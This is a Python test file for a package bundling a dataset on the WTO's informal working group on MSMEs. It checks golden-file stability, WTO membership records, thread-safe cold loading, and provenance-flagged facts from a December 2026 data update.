    "publications": ("id", "publisher", "title"),
    "declarations": ("id", "symbol", "circulated", "title", "signatories", "signatory_members"),
    "meetings": ("id", "name", "kind", "date", "not_before", "not_after", "format", "welcomed", "documents"),
    "documents": ("id", "symbol", "date", "url", "kind", "proponents", "meetings"),
    "wto_members": (
        "id",
        "name",
        "member_since",
        "member_since_confidence",
        "eu_member_state",
        "iso_alpha2",
        "iso_alpha3",
        "iso_numeric",
    ),
    "claims": ("id", "subject", "count", "more_than", "as_of", "consistent"),
    "sponsors": ("id", "member", "endorsed", "participant_then"),
    "sources": ("id", "kind", "url"),
}


INITIATIVE_FIELDS = (
    "name",
    "group_name",
    "status",
    "open",
    "dialogue_leaders",
    "dialogue_started",
    "established",
    "establishing_document",
    "participants_claimed",
    "wto_members_claimed",
    "participation_as_of",
    "world_exports_share",
)


def _key_fields(record: Any, fields: tuple[str, ...]) -> dict[str, Any]:
    row = converter().unstructure(record)
    out = {f: row[f] for f in fields}
    if "joined" in out:
        out["joined"] = {k: v for k, v in out["joined"].items() if k != "event"}
    if "provenance" in row:
        prov = row["provenance"]
        out["source"] = prov["source"]
        out["notes"] = [f"{n['kind']}:{n['field']}" for n in prov["notes"]]
    if "paragraphs" in row:
        out["paragraphs"] = [p["number"] for p in row["paragraphs"]]
    return out


def golden(ds: Dataset) -> dict[str, Any]:
    """The identifiers and key fields of *ds*, as JSON values."""
    return {
        "version": ds.version,
        "current_to": str(ds.current_to),
        "counts": {name: len(getattr(ds, name)) for name in KEY_FIELDS},
        "initiative": _key_fields(ds.initiative, INITIATIVE_FIELDS),
        **{name: [_key_fields(r, fields) for r in getattr(ds, name)] for name, fields in KEY_FIELDS.items()},
    }


def golden_text(value: dict[str, Any]) -> str:
    """Write the golden value with one record a line, so that a diff shows each changed record."""
    lines = ["{"]
    for i, (key, item) in enumerate(value.items()):
        comma = "," if i < len(value) - 1 else ""
        if isinstance(item, list):
            rows = ",\n".join(f"    {json.dumps(r, ensure_ascii=False)}" for r in item)
            lines.append(f'  "{key}": [\n{rows}\n  ]{comma}')
        else:
            lines.append(f'  "{key}": {json.dumps(item, ensure_ascii=False)}{comma}')
    lines.append("}")
    return "\n".join(lines) + "\n"


class TestGolden:
    def test_golden(self, ds):
        """The bundled data's identifiers and key fields are those of the golden file: data changes are deliberate."""

        actual = golden(ds)
        if os.environ.get("UPDATE_GOLDEN"):
            GOLDEN.parent.mkdir(exist_ok=True)
            GOLDEN.write_text(golden_text(actual), "utf-8")
            pytest.skip(f"rewrote {GOLDEN.name}: review the diff and record the change in CHANGELOG.md")
        expected = json.loads(GOLDEN.read_text("utf-8"))

        assert expected["version"] == actual["version"], "a data change needs a new DATA_VERSION"
        for key in expected:
            assert expected[key] == actual[key], f"{key} differs from {GOLDEN.name}"
        assert list(expected) == list(actual)

    def test_golden_file_is_written_as_the_update_writes_it(self):
        """The golden file is exactly what UPDATE_GOLDEN=1 writes: no hand edits."""

        text = GOLDEN.read_text("utf-8")

        assert golden_text(json.loads(text)) == text

    def test_golden_detects_a_change(self, ds):
        """A one-letter change to a presentation's title shows in the golden value."""

        p = ds.presentations[0]
        changed = attrs.evolve(ds, presentations=(attrs.evolve(p, title=p.title + "."), *ds.presentations[1:]))

        assert golden(ds) != golden(changed)


# --- The WTO's membership -------------------------------------------------------------------------


class TestWtoMembers:
    """
    The full WTO membership loads with codes, dates and their confidence.

    facts.md §3: "166 members since 30 Aug 2024"; "Rows marked 'memory (unverified)'
    (45 rows) come from general knowledge"; "76 members joined on 1 Jan 1995".
    """

    def test_every_member_has_codes_a_date_and_its_confidence(self, ds):
        """Each of the 166 has its WTO date and how well it is established; all but the EU have ISO codes."""

        for w in ds.wto_members:
            codes = (w.iso_alpha2, w.iso_alpha3, w.iso_numeric)

            assert isinstance(w.member_since_confidence, Confidence)
            assert (None, None, None) == codes if w.id == "eu" else all(codes)
            assert w.id == ("eu" if w.id == "eu" else w.iso_alpha3.lower())

    def test_45_dates_are_unverified(self, ds):
        """The 45 dates from general knowledge are marked unverified, the rest high."""

        by_confidence = {c: sum(w.member_since_confidence is c for w in ds.wto_members) for c in Confidence}

        assert {
            Confidence.HIGH: 121,
            Confidence.MEDIUM: 0,
            Confidence.LOW: 0,
            Confidence.UNVERIFIED: 45,
        } == by_confidence

    def test_dates_and_ordinals(self, ds):
        """76 original Members, 164 before Comoros (21 August 2024) and Timor-Leste (30 August 2024)."""

        since = {w.id: w.member_since for w in ds.wto_members}

        assert 76 == sum(d == PartialDate(1995, 1, 1) for d in since.values())
        assert 164 == sum(d < PartialDate(2024, 8, 21) for d in since.values())
        assert (PartialDate(2024, 8, 21), PartialDate(2024, 8, 30)) == (since["com"], since["tls"])

    def test_the_eu_and_its_27_member_states(self, ds):
        """27 WTO Members are EU member states; the UK no longer is."""

        states = {w.id for w in ds.wto_members if w.eu_member_state}

        assert (27, False, False) == (len(states), "gbr" in states, "eu" in states)

    def test_participants_are_wto_members_under_the_same_codes(self, ds):
        """Every participant is a WTO Member with the same id and ISO codes."""

        wto = {w.id: w for w in ds.wto_members}

        for m in ds.members:
            w = wto[m.id]
            assert (m.iso_alpha2, m.iso_alpha3, m.iso_numeric) == (w.iso_alpha2, w.iso_alpha3, w.iso_numeric)


# --- A cold start --------------------------------------------------------------------------


def _python(code: str, *path: pathlib.Path) -> str:
    """Run *code* in a fresh interpreter that finds *path* first; return what it prints."""
    package_root = pathlib.Path(wto_msme.__file__).resolve().parents[1]
    search = [*map(str, path), str(package_root), os.environ.get("PYTHONPATH", "")]
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(p for p in search if p)}
    done = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True, check=False)
    assert 0 == done.returncode, done.stderr
    return done.stdout


class TestColdStart:
    def test_import_and_load_leave_heavy_dependencies_alone(self):
        """`import wto_msme` and `load()` import neither cattrs, dateutil, hypothesis nor pandas."""

        code = (
            "import sys, wto_msme; wto_msme.load()\n"
            "print(sorted({m.split('.')[0] for m in sys.modules} & {'cattrs', 'dateutil', 'hypothesis', 'pandas'}))"
        )

        assert "[]" == _python(code).strip()

    def test_threads_racing_to_the_first_load_get_one_dataset(self):
        """Sixteen threads calling load() at once in a fresh interpreter get the same object, built once."""

        code = textwrap.dedent(
            """
            import threading, wto_msme
            from wto_msme import _data
            builds = []
            original = _data._load_bundled
            _data._load_bundled = lambda: builds.append(1) or original()
            barrier = threading.Barrier(16)
            got = []
            def run():
                barrier.wait()
                got.append(wto_msme.load())
            threads = [threading.Thread(target=run) for _ in range(16)]
            for t in threads:
                t.start()
            for t in threads:
                t.join()
            print(len(got), len({id(d) for d in got}), len(builds), all(d is wto_msme.load() for d in got))
            """
        )

        assert "16 1 1 True" == _python(code).strip()

    def test_load_builds_every_collection_at_once(self):
        """After load(), every file has been read and every field holds its collection class; nothing is read again."""

        code = textwrap.dedent(
            """
            import attrs, json, wto_msme
            from wto_msme import _data
            read = []
            original = _data._read_bundled
            _data._read_bundled = lambda name: read.append(name) or original(name)
            ds = wto_msme.load()
            before = sorted(read)
            fields = {k: type(v).__name__ for k, v in attrs.asdict(ds, recurse=False).items()}
            print(json.dumps([before, sorted(read) == before, fields]))
            """
        )
        expected_fields = {name: type_.__name__ for name, type_ in field_types(wto_msme.Dataset).items()}

        assert [sorted(wto_msme._data.LAYOUT), True, expected_fields] == json.loads(_python(code))

    def test_the_bundled_dataset_pickles_copies_and_evolves_whole(self, ds):
        """Pickling, copying and evolving the bundled dataset give datasets equal to the checked copy."""

        import copy
        import pickle

        checked = wto_msme.load(DATA_DIR)

        assert [True] * 4 == [
            pickle.loads(pickle.dumps(ds)) == checked,
            copy.deepcopy(ds) == checked,
            attrs.evolve(ds, version="x") == attrs.evolve(checked, version="x"),
            hash(ds) == hash(checked),
        ]

    def test_bundled_data_loads_from_a_zip_archive(self, tmp_path):
        """Imported from a zip archive, the package still loads its bundled data, equal to the files'."""

        package = pathlib.Path(wto_msme.__file__).resolve().parent
        archive = tmp_path / "wto_msme.zip"
        with zipfile.ZipFile(archive, "w") as z:
            for file in sorted(package.rglob("*")):
                if file.is_file() and "__pycache__" not in file.parts:
                    z.write(file, file.relative_to(package.parent).as_posix())
        code = f"import wto_msme\nprint(wto_msme.__file__)\nprint(wto_msme.load() == wto_msme.load({str(DATA_DIR)!r}))"

        where, equal = _python(code, archive).split()

        assert (str(archive), "True") == (where[: len(str(archive))], equal)


# --- The facts of the December 2026 source update (data 2026.12.1) ----------------------------------
# Kept apart from the loading tests above: each test pins one fact of the update with its source.


class TestCovidStatement:
    """
    WT/GC/215, as its text reposted by Textile Future gives it.

    "The following statement, dated May 14, 2020, is being circulated at the request of the
    following Members: Afghanistan; Albania; Argentina; … Thailand; Turkey; Ukraine; United
    Kingdom; Uruguay; Vanuatu."
    """

    def test_date_and_co_sponsors(self, ds):
        """The statement is dated 14 May 2020 and names 49 co-sponsors, all WTO Members, the EU once."""

        doc = ds.documents.get("wt-gc-215")
        wto = {m.id for m in ds.wto_members}

        assert (PartialDate(2020, 5, 14), 49, True, "S-GC215-TXT") == (
            doc.date,
            len(set(doc.proponents)),
            set(doc.proponents) <= wto,
            doc.provenance.evidence[0],
        )

    def test_co_sponsors_that_did_not_take_part(self, ds):
        """Four co-sponsors were no participants then: Maldives and Ukraine joined later, Thailand and Vanuatu never."""

        doc = ds.documents.get("wt-gc-215")
        then = ds.members.as_of(str(doc.date))
        possible = {m.id for m in (*then.known, *then.uncertain)}
        members = {m.id for m in ds.members}

        assert ({"tha", "vut"}, {"mdv", "tha", "ukr", "vut"}) == (
            set(doc.proponents) - members,
            set(doc.proponents) - possible,
        )

    def test_description_corrected(self, ds):
        """The description no longer says the group's members circulated it, and a correction note says why."""

        doc = ds.documents.get("wt-gc-215")
        kinds = {(n.kind, n.field) for n in doc.provenance.notes}

        assert ("IWG members" not in doc.description, "49 WTO Members" in doc.description) == (True, True)
        assert (NoteKind.CORRECTION, "description") in kinds
        assert all(n.confidence is not Confidence.UNVERIFIED for n in doc.provenance.notes)


class TestPrecursors:
    """
    The 2015 draft decisions, from the Spanish repost of WT/GC/W/708.

    "WT/GC/W/708 19 de noviembre de 2015" / "Los copatrocinadores del documento WT/GC/W/702" /
    "Como se expone en los documentos JOB/GC/80 y WT/GC/W/702".
    """

    def test_the_three_documents(self, ds):
        """WT/GC/W/708 is dated 19 November 2015 and proposed by four Members; W/702 and JOB/GC/80 are known from it."""

        docs = {d.symbol: d for d in ds.documents if d.provenance.source == "S-W708"}

        assert (
            {"WT/GC/W/708", "WT/GC/W/702", "JOB/GC/80"},
            PartialDate(2015, 11, 19),
            ("brn", "phl", "mys", "lao"),
        ) == (set(docs), docs["WT/GC/W/708"].date, docs["WT/GC/W/708"].proponents)

    def test_a_cited_document_may_predate_the_group(self, ds):
        """The integrity checks accept a document of 2015, but not a meeting of 2015."""

        doc = ds.documents.get("wt-gc-w-708")
        meeting = attrs.evolve(ds.meetings[0], date=doc.date)

        assert ([], ["meetings"]) == (
            check(ds),
            [c for c, _, _ in check(attrs.evolve(ds, meetings=(meeting, *ds.meetings[1:])))],
        )


class TestJointSymbol:
    """
    The women-led MSME finance compendium, as the 2024 annual report cites it.

    "to issue the joint compendium on Access to Finance for Women-led MSMEs
    (INF/MSME/W/46/Rev.3; INF/TGE/W/7/Rev" (the copy read is cut off there).
    """

    def test_both_symbols_the_revision_marked_unknown(self, ds):
        """The Trade and Gender co-symbol follows a hyphen, as in joint documents, its revision marked unknown."""

        doc = ds.documents.get("inf-msme-w-46-rev-3")
        flag = next(n for n in doc.provenance.notes if n.field == "symbol")

        assert ("INF/MSME/W/46/Rev.3-INF/TGE/W/7/Rev.?", NoteKind.FLAG) == (doc.symbol, flag.kind)
        assert doc in ds.documents.search("INF/TGE/W/7")


class TestDocumentsWithoutSymbol:
    """
    Eleven documents read in full, in reposts that show no symbol.

    "The following communication, dated 17 July 2024 …" (the summary of 1 July 2024), and
    likewise the other ten: annual reports, summaries, convening notices, a study, communications.
    """

    def test_eleven_each_flagged(self, ds):
        """Eleven documents have no symbol, and each says so in a flag on its symbol, from its own source."""

        unsymbolled = [d for d in ds.documents if d.symbol is None]
        flagged = [d for d in unsymbolled for n in d.provenance.notes if (n.kind, n.field) == (NoteKind.FLAG, "symbol")]

        assert (11, unsymbolled) == (len(unsymbolled), flagged)

    def test_the_meetings_they_served_list_them(self, ds):
        """A document that served a meeting is among that meeting's documents, and the other way round."""

        pairs = {(d.id, m) for d in ds.documents for m in d.meetings}
        listed = {(d, m.id) for m in ds.meetings for d in m.documents}

        assert pairs == listed
        assert {
            ("2024-07-17-summary", "2024-07-01-meeting"),
            ("2025-09-09-convening-notice", "2025-10-03-meeting"),
        } <= pairs

    def test_named_by_their_description(self, ds):
        """A document without symbol is named by its description: in titles, in its citation, and found by it."""

        doc = ds.documents.get("2024-10-29-summary")
        cited = wto_msme.cite(doc)

        assert (doc.description, True, doc) == (
            title(doc),
            cited.startswith(f"\u201c{doc.description}."),
            ds.documents.search(doc.description)[0],
        )

    def test_csv_leaves_the_symbol_empty(self, ds):
        """CSV writes an empty symbol cell for a document without one, and JSON writes null."""

        docs = ds.documents.get("2025-12-08-joint-communication")
        out = io.StringIO(newline="")
        wto_msme.collections.Documents([docs]).to_csv(out)
        row = next(csv.DictReader(io.StringIO(out.getvalue())))

        assert ("", None) == (row["symbol"], json.loads((DATA_DIR / "documents.json").read_text("utf-8"))[-1]["symbol"])


class TestCounts2018To2020:
    """
    The dated counts of 2018-2020.

    88 by 30 January 2018, 89 in 2019, "over 90" on 8 May 2020 (CUTS: "currently involving
    over 90 WTO Members"), and 90 just before Ukraine joined ("bringing the total number of
    participants to 91 WTO members", 11 December 2020).
    """

    def test_the_claims(self, ds):
        """The four early claims are in the data in date order, the 'over 90' as a bound flagged low."""

        early = [c for c in ds.claims if c.as_of is not None and c.as_of.year in (2018, 2019, 2020)]
        over = ds.claims.get("2020-05-08-over-90")

        assert [(88, False), (89, False), (90, True), (90, False), (91, False)] == [
            (c.count, c.more_than) for c in early
        ]
        assert (False, Confidence.LOW) == (over.consistent, over.provenance.notes[0].confidence)

    def test_a_bound_is_not_taken_for_a_count(self, ds):
        """The 'over 90' claim is in no participation step and never the claim a count is shown with."""

        steps = ds.participation()

        assert "2020-05-08-over-90" not in {s.claim for s in steps}
        claimed = ds.participant_count("2020-05-08").claimed
        assert claimed is None or claimed.id != "2020-05-08-over-90"

    def test_panama_flags_the_early_counts(self, ds):
        """The counts that bound 2019 (88, 89, 90) carry a flag on Panama: they assume nobody left."""

        flagged = {
            c.id for c in ds.claims for n in c.provenance.notes if n.kind is NoteKind.FLAG and "Panama" in n.text
        }

        assert {"2018-01-30-88", "2019-89", "2020-12-10-90"} == flagged


class TestMeetingFlags:
    """
    Two records checked against their sources.

    The meeting of 10 December 2024 ("was postponed from the 10 December 2024 meeting") and
    South Africa on 3 October 2025 ("The ITC's Deputy Executive Director, Dorothy Tembo, and
    South Africa will brief the Group").
    """

    @pytest.mark.parametrize(
        ("meeting", "field"), [("2024-12-10-meeting", "date"), ("2025-10-03-meeting", "presenters")]
    )
    def test_flagged(self, ds, meeting, field):
        """Each record carries a flag on the field the sources leave uncertain."""

        notes = ds.meetings.get(meeting).provenance.notes

        assert (NoteKind.FLAG, field) in {(n.kind, n.field) for n in notes}


def test_the_data_version_is_bumped(ds):
    """The update is data version 2026.12.1, still current to 8 December 2025 (nothing later was found)."""

    assert ("2026.12.1", PartialDate(2025, 12, 8)) == (ds.version, ds.current_to)
